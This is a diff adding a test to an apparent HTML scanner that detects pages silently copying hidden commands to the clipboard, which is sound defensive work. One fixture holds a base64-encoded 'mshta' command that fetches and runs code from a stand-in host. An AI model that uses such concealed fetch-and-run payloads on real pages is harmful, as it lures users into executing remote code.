@@ -65,3 +65,10 @@ def test_what_a_page_deciphers():
     shown = deeds(f"<button id=b>Open</button><p id=t></p><script>{decipher}t.textContent=new TextDecoder().decode(d)}}</script>")
     assert "HTML-DECIPHERS" in codes(saved) and "HTML-DECIPHERS" in codes(shown)
     assert "HTML-DECIPHERS" not in codes(deeds("<script>crypto.subtle.digest('SHA-256',new Uint8Array(9))</script>"))
+
+
+def test_commands_that_are_copied_and_not_shown():
+    copies = "<button onclick=\"navigator.clipboard.writeText({})\">x</button>"
+    assert "HTML-COPIES-UNSEEN" in codes(deeds(copies.format("atob('bXNodGEgaHR0cHM6Ly9oLmV4YW1wbGUvYQ==')")))
+    assert "HTML-COPIES-UNSEEN" not in codes(deeds("<code>curl -LO https://h.example/a.tgz</code>" + copies.format("'curl -LO https://h.example/a.tgz'")))
+    assert "HTML-COPIES-UNSEEN" not in codes(deeds(copies.format("'DE02 1203 0000 0000 2020 51'")))
